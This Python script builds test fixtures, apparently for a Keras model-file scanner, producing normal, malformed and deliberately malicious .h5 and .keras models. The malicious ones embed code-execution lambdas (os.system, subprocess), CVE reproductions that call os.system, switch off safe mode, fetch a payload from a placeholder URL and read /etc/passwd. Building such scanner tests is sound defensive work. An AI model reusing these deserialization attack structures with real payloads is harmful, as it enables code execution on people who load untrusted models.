#!/usr/bin/python3
"""Builds the Keras fixtures of package kerasfmt with h5py (Debian
python3-h5py 3.7, HDF5 1.10.8), numpy, zipfile and marshal.

Keras and TensorFlow are not installable here, so the files are laid out the
way they write them:
  * .h5 (tf.keras 2.x save_model): root attributes backend, keras_version,
    model_config and training_config (JSON, variable-length str as tf.keras
    2.13 writes them, or fixed-length bytes as Keras 2.2 did), and a
    model_weights group with layer_names/weight_names and the weights;
  * .weights.h5 (save_weights): layer_names, backend, keras_version only;
  * .keras (Keras 3 saving_lib): a zip (stored) with metadata.json,
    config.json and model.weights.h5 (layers/<name>/vars/<i> datasets).

Lambda bytecode is made the way Keras 2's func_dump does it:
base64(marshal.dumps(code)). The code object is taken from the constants of
compile("lambda ...", ..., "eval"); nothing is evaluated, called or loaded.
The malicious fixtures carry harmless payloads ('id', example.invalid URLs).

Run from this directory:  /usr/bin/python3 gen.py
"""

import base64
import io
import json
import marshal
import os
import types
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))


def path(name):
    return os.path.join(HERE, name)


def lambda_code(src):
    """The code object of a lambda expression, compiled, never run."""
    top = compile(src, "<fixture>", "eval")
    for c in top.co_consts:
        if isinstance(c, types.CodeType):
            return c
    raise ValueError("no code object in " + src)


def func_dump(src):
    """Keras 2 func_dump: (base64 text of the marshalled code, defaults, closure)."""
    raw = marshal.dumps(lambda_code(src))
    return base64.encodebytes(raw).decode("ascii"), None, None


# ---- Keras 2 (tf.keras 2.13) configs -------------------------------------------------

def k2_dense(name, units, activation="linear"):
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
        "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None}}


def k2_input(name, shape):
    return {"class_name": "InputLayer", "config": {
        "batch_input_shape": [None] + shape, "dtype": "float32", "sparse": False, "ragged": False,
        "name": name}}


def k2_lambda(name, src):
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": list(func_dump(src)),
        "function_type": "lambda", "module": "__main__", "output_shape": None,
        "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}


def k2_sequential(name, layers):
    return {"class_name": "Sequential", "config": {"name": name, "layers": layers}}


def k2_functional(name, layers, inputs, outputs):
    return {"class_name": "Functional", "config": {
        "name": name, "trainable": True, "layers": layers,
        "input_layers": [[i, 0, 0] for i in inputs], "output_layers": [[o, 0, 0] for o in outputs]}}


def node(layer, inbound):
    layer = dict(layer)
    layer["name"] = layer["config"]["name"]
    layer["inbound_nodes"] = [[[inbound, 0, 0, {}]]] if inbound else []
    return layer


TRAINING = {"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper", "config": {
    "name": "mae", "dtype": "float32", "fn": "mean_absolute_error"}}]], "weighted_metrics": None,
    "loss_weights": None, "optimizer_config": {"class_name": "Custom>Adam", "config": {
        "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None,
        "clipvalue": None, "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None,
        "jit_compile": False, "is_legacy_optimizer": False, "learning_rate": 0.001, "beta_1": 0.9,
        "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}}}


def write_h5(name, model_config, training=TRAINING, weights=(("dense", (4, 8)),), fixed_bytes=False):
    """tf.keras 2.x HDF5 save_model layout."""
    with h5py.File(path(name), "w") as f:
        if fixed_bytes:  # Keras 2.2: str.encode('utf8') gives fixed-length bytes
            f.attrs["keras_version"] = np.bytes_(b"2.2.4")
            f.attrs["backend"] = np.bytes_(b"tensorflow")
            f.attrs["model_config"] = np.bytes_(json.dumps(model_config).encode("utf8"))
            if training is not None:
                f.attrs["training_config"] = np.bytes_(json.dumps(training).encode("utf8"))
        else:
            f.attrs["backend"] = "tensorflow"
            f.attrs["keras_version"] = "2.13.1"
            f.attrs["model_config"] = json.dumps(model_config)
            if training is not None:
                f.attrs["training_config"] = json.dumps(training)
        mw = f.create_group("model_weights")
        mw.attrs["backend"] = np.bytes_(b"tensorflow")
        mw.attrs["keras_version"] = np.bytes_(b"2.13.1")
        mw.attrs["layer_names"] = np.array([w[0].encode() for w in weights])
        for lname, shape in weights:
            g = mw.create_group(lname)
            g.attrs["weight_names"] = np.array([("%s/kernel:0" % lname).encode(), ("%s/bias:0" % lname).encode()])
            inner = g.create_group(lname)
            inner.create_dataset("kernel:0", data=np.zeros(shape, dtype="float32"))
            inner.create_dataset("bias:0", data=np.zeros(shape[-1:], dtype="float32"))


def write_weights_h5(name):
    """tf.keras save_weights() layout: no model_config."""
    with h5py.File(path(name), "w") as f:
        f.attrs["backend"] = np.bytes_(b"tensorflow")
        f.attrs["keras_version"] = np.bytes_(b"2.13.1")
        f.attrs["layer_names"] = np.array([b"dense", b"dense_1"])
        for lname in ("dense", "dense_1"):
            g = f.create_group(lname)
            g.attrs["weight_names"] = np.array([("%s/kernel:0" % lname).encode(), ("%s/bias:0" % lname).encode()])
            g.create_group(lname).create_dataset("kernel:0", data=np.zeros((2, 2), dtype="float32"))


def h5_fixtures():
    seq = k2_sequential("sequential", [k2_input("input_1", [4]), k2_dense("dense", 8, "relu"), k2_dense("dense_1", 1)])
    write_h5("seq_dense.h5", seq)
    write_h5("seq_dense_keras22.h5", seq, fixed_bytes=True)
    write_weights_h5("weights_only.weights.h5")

    # Functional with a nested Functional model and wrappers
    inner = k2_functional("inner", [
        node(k2_input("inner_in", [3, 4]), None),
        node(k2_dense("inner_dense", 4), "inner_in")], ["inner_in"], ["inner_dense"])
    td = {"class_name": "TimeDistributed", "config": {"name": "td", "trainable": True, "dtype": "float32",
                                                     "layer": k2_dense("td_dense", 4)}}
    bi = {"class_name": "Bidirectional", "config": {"name": "bi", "trainable": True, "dtype": "float32",
                                                   "merge_mode": "concat", "layer": {"class_name": "LSTM", "config": {
                                                       "name": "lstm", "units": 2, "activation": "tanh",
                                                       "recurrent_activation": "sigmoid", "return_sequences": False}}}}
    outer = k2_functional("outer", [
        node(k2_input("x", [3, 4]), None), node(inner, "x"), node(td, "inner"), node(bi, "td"),
        node(k2_dense("head", 1), "bi")], ["x"], ["head"])
    write_h5("functional_nested.h5", outer)

    write_h5("lambda_benign.h5", k2_sequential("sequential", [
        k2_input("input_1", [4]), k2_lambda("double", "lambda x: x * 2.0 + 1.0")]))

    # malicious: marshalled os.system, top level and nested in an inner model
    write_h5("lambda_system.h5", k2_sequential("sequential", [
        k2_input("input_1", [4]), k2_dense("dense", 8),
        k2_lambda("lambda", "lambda x: __import__('os').system('id') or x")]))
    evil_inner = k2_functional("inner", [
        node(k2_input("inner_in", [4]), None),
        node(k2_lambda("hidden", "lambda x: getattr(__import__('subprocess'), 'check_output')(['id']) and x"),
             "inner_in")], ["inner_in"], ["hidden"])
    write_h5("lambda_nested.h5", k2_functional("outer", [
        node(k2_input("x", [4]), None), node(evil_inner, "x"), node(k2_dense("head", 1), "inner")],
        ["x"], ["head"]))


def odd_h5_fixtures():
    """Attributes Keras cannot read, or reads differently than they look."""
    seq = k2_sequential("sequential", [k2_input("input_1", [4]), k2_dense("dense", 8)])
    text = json.dumps(seq).encode("utf8")
    with h5py.File(path("config_int.h5"), "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["model_config"] = np.int64(7)
    with h5py.File(path("config_not_json.h5"), "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["model_config"] = text[:-7].decode("utf8")
    with h5py.File(path("config_array.h5"), "w") as f:
        f.attrs["model_config"] = np.array([text, text])
    with h5py.File(path("config_compound.h5"), "w") as f:
        f.attrs["model_config"] = np.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")])
    # fixed-length bytes with a NUL: h5py returns only the text before it
    with h5py.File(path("config_nul.h5"), "w") as f:
        f.attrs["model_config"] = np.bytes_(text + b"\x00" + b'{"class_name": "Hidden", "config": {}}')
    # a 512-byte user block (zeros) before the superblock
    with h5py.File(path("userblock.h5"), "w", userblock_size=512) as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["model_config"] = json.dumps(seq)
    # an HDF5 file that is not a Keras model
    with h5py.File(path("not_keras.h5"), "w") as f:
        f.attrs["title"] = "measurements"
        f.create_dataset("data", data=np.arange(10, dtype="int32"))


# ---- Keras 3 .keras archives ----------------------------------------------------------

def k3(module, cls, config, registered=None, **extra):
    obj = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    obj.update(extra)
    return obj


def k3_dense(name, units, activation="relu"):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": k3("keras", "DTypePolicy", {"name": "float32"}),
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_config={"input_shape": [None, 4]})


def k3_input(name, shape):
    return k3("keras.layers", "InputLayer", {"batch_shape": [None] + shape, "dtype": "float32",
                                            "sparse": False, "name": name})


def k3_sequential(layers):
    return k3("keras", "Sequential", {"name": "sequential", "trainable": True, "dtype": "float32",
                                      "layers": layers}, build_config={"input_shape": [None, 4]},
              compile_config={"optimizer": k3("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}),
                              "loss": k3("keras.losses", "MeanSquaredError", {"name": "mse", "reduction": "sum_over_batch_size"}),
                              "metrics": ["mae"], "loss_weights": None, "weighted_metrics": None,
                              "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False})


def k3_functional(layers, inputs, outputs):
    return k3("keras.src.models.functional", "Functional", {
        "name": "functional", "trainable": True, "layers": layers,
        "input_layers": [[i, 0, 0] for i in inputs], "output_layers": [[o, 0, 0] for o in outputs]},
        registered="Functional", build_config={"input_shape": None})


def k3_node(layer, name, args):
    layer = dict(layer)
    layer["name"] = name
    layer["inbound_nodes"] = [{"args": args, "kwargs": {}}] if args is not None else []
    return layer


def ktensor(layer):
    return {"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32",
                                                         "keras_history": [layer, 0, 0]}}


def weights_h5():
    """Keras 3 model.weights.h5 (H5IOStore layout)."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        v = f.create_group("layers").create_group("dense").create_group("vars")
        v.create_dataset("0", data=np.zeros((4, 8), dtype="float32"))
        v.create_dataset("1", data=np.zeros((8,), dtype="float32"))
        f.create_group("optimizer").create_group("vars")
    return buf.getvalue()


WEIGHTS = None


def write_keras(name, config):
    global WEIGHTS
    if WEIGHTS is None:
        WEIGHTS = weights_h5()
    with zipfile.ZipFile(path(name), "w", zipfile.ZIP_STORED) as z:
        # a fixed date keeps the files reproducible
        def add(member, data):
            z.writestr(zipfile.ZipInfo(member, date_time=(2024, 5, 1, 12, 0, 0)), data)
        add("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}))
        add("config.json", json.dumps(config))
        add("model.weights.h5", WEIGHTS)


def keras_fixtures():
    write_keras("dense.keras", k3_sequential([k3_input("input_layer", [4]), k3_dense("dense", 8), k3_dense("dense_1", 1)]))
    write_keras("custom_registered.keras", k3_sequential([
        k3_input("input_layer", [4]),
        k3("my_package.layers", "MyLayer", {"name": "my_layer", "trainable": True, "factor": 2},
           registered="MyPackage>MyLayer")]))

    code = marshal.dumps(lambda_code("lambda x: __import__('os').system('id') or x"))
    lam = k3("keras.layers", "Lambda", {"name": "lambda", "trainable": True, "dtype": "float32", "function": {
        "class_name": "__lambda__", "config": {"code": base64.encodebytes(code).decode("ascii"),
                                               "defaults": None, "closure": None}}, "arguments": {}})
    write_keras("lambda_system.keras", k3_sequential([k3_input("input_layer", [4]), lam]))

    # CVE-2025-1550: a "layer" that is os.system, called by the Functional graph with "id"
    write_keras("os_system_function.keras", k3_functional([
        k3_node(k3_input("input_layer", [4]), "input_layer", None),
        k3_node(k3("os", "function", "system", registered="function"), "system", ["id"]),
        k3_node(k3_dense("dense", 1), "dense", [ktensor("input_layer")])],
        ["input_layer"], ["dense"]))
    # CVE-2025-9906: safe mode switched off by the config itself, then a Lambda
    write_keras("unsafe_deserialization.keras", k3_functional([
        k3_node(k3_input("input_layer", [4]), "input_layer", None),
        k3_node(k3("keras.config", "function", "enable_unsafe_deserialization", registered="function"), "unsafe", []),
        k3_node(lam, "lambda", [ktensor("input_layer")])],
        ["input_layer"], ["lambda"]))
    # CVE-2025-8747: keras.utils.get_file called with attacker arguments
    write_keras("get_file.keras", k3_functional([
        k3_node(k3_input("input_layer", [4]), "input_layer", None),
        k3_node(k3("keras.utils", "function", "get_file", registered="function"), "fetch",
                ["payload.py", "https://example.invalid/payload.py"]),
        k3_node(k3_dense("dense", 1), "dense", [ktensor("input_layer")])],
        ["input_layer"], ["dense"]))
    # CVE-2025-12058: lookup vocabulary read from a path or URL
    for fname, vocab in (("stringlookup_path.keras", "/etc/passwd"),
                         ("stringlookup_url.keras", "https://example.invalid/vocab.txt")):
        write_keras(fname, k3_sequential([
            k3("keras.layers", "StringLookup", {"name": "lookup", "trainable": True, "dtype": "int64",
                                                "max_tokens": None, "num_oov_indices": 1, "mask_token": None,
                                                "oov_token": "[UNK]", "vocabulary": vocab,
                                                "vocabulary_dtype": "string", "idf_weights": None,
                                                "invert": False, "output_mode": "int", "sparse": False,
                                                "pad_to_max_tokens": False})]))
    write_keras("tfsmlayer.keras", k3_sequential([
        k3("keras.layers", "TFSMLayer", {"name": "tfsm", "trainable": True, "dtype": "float32",
                                         "filepath": "/tmp/attacker_savedmodel",
                                         "call_endpoint": "serve", "call_training_endpoint": None})]))


if __name__ == "__main__":
    h5_fixtures()
    odd_h5_fixtures()
    keras_fixtures()
